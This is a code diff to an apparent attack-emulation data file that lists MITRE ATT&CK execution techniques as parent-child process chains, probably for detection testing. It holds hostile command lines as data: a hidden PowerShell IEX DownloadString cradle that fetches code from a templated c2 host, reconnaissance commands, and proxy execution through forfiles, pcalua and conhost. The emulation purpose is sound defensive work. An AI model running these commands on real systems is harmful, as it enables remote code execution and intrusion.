@@ -40,7 +40,8 @@ export const execution = [
           {
             ps: "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='powershell.exe -nop -w hidden -c whoami'}",
           },
-          { cmd: "powershell.exe -nop -w hidden -c whoami", parent: "@wmiprvse" },
+          { cmd: "powershell.exe -nop -w hidden -c whoami", parent: "@wmiprvse", as: "p" },
+          { cmd: '"C:\\Windows\\system32\\whoami.exe"', parent: "p" },
         ],
         { shell: "ps" },
       ),
@@ -124,7 +125,8 @@ export const execution = [
         "office-cmd",
         [
           { cmd: `"${WORD}" /n "{{downloads}}\\Invoice_{{n}}.doc"`, as: "word", parent: "@explorer" },
-          { cmd: "cmd.exe /c echo %username% && ping -n 1 {{c2}}", parent: "word" },
+          { cmd: "cmd.exe /c echo %username% && ping -n 1 {{c2}}", parent: "word", as: "c" },
+          { cmd: "ping  -n 1 {{c2}}", parent: "c", dns: ["{{c2}}"] },
         ],
         { shell: "none" },
       ),
@@ -132,8 +134,11 @@ export const execution = [
         {
           cmd: "cmd.exe /c whoami & hostname & ipconfig /all > {{tmp}}\\{{rand}}.txt",
           files: ["{{tmp}}\\{{rand}}.txt"],
+          as: "c",
         },
-        { cmd: "whoami", parent: "prev" },
+        { cmd: "whoami", parent: "c" },
+        { cmd: "hostname", parent: "c" },
+        { cmd: "ipconfig  /all", parent: "c" },
       ]),
     ],
   ),
@@ -307,9 +312,19 @@ export const execution = [
     "Indirect command execution",
     "Commands run through forfiles, pcalua and conhost instead of cmd directly.",
     [
-      v("forfiles", ['forfiles /p C:\\Windows\\System32 /m notepad.exe /c "cmd /c {{tmp}}\\{{rand}}.exe"']),
+      v("forfiles", [
+        {
+          cmd: 'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "cmd /c {{tmp}}\\{{rand}}.exe"',
+          as: "ff",
+        },
+        { cmd: "cmd /c {{tmp}}\\{{rand}}.exe", parent: "ff", as: "c" },
+        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
+      ]),
       v("pcalua", ["pcalua.exe -a {{tmp}}\\{{rand}}.exe"]),
-      v("conhost", ["conhost.exe --headless cmd.exe /c {{tmp}}\\{{rand}}.bat"]),
+      v("conhost", [
+        { cmd: "conhost.exe --headless cmd.exe /c {{tmp}}\\{{rand}}.bat", as: "con" },
+        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.bat", parent: "con" },
+      ]),
     ],
   ),
   t("T1203", "Client execution exploit", "An exploited Office or browser process spawning a shell.", [
@@ -320,6 +335,12 @@ export const execution = [
         {
           cmd: "cmd.exe /c powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/a')\"",
           parent: "w",
+          as: "c",
+        },
+        {
+          cmd: "powershell  -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/a')\"",
+          parent: "c",
+          net: [["{{c2}}", 80]],
         },
       ],
       { shell: "none" },
@@ -332,7 +353,8 @@ export const execution = [
           as: "eq",
           parent: "@svchost:DcomLaunch",
         },
-        { cmd: "cmd.exe /c {{appdata}}\\{{rand}}.exe", parent: "eq" },
+        { cmd: "cmd.exe /c {{appdata}}\\{{rand}}.exe", parent: "eq", as: "c" },
+        { cmd: "{{appdata}}\\{{rand}}.exe", parent: "c" },
       ],
       { shell: "none" },
     ),
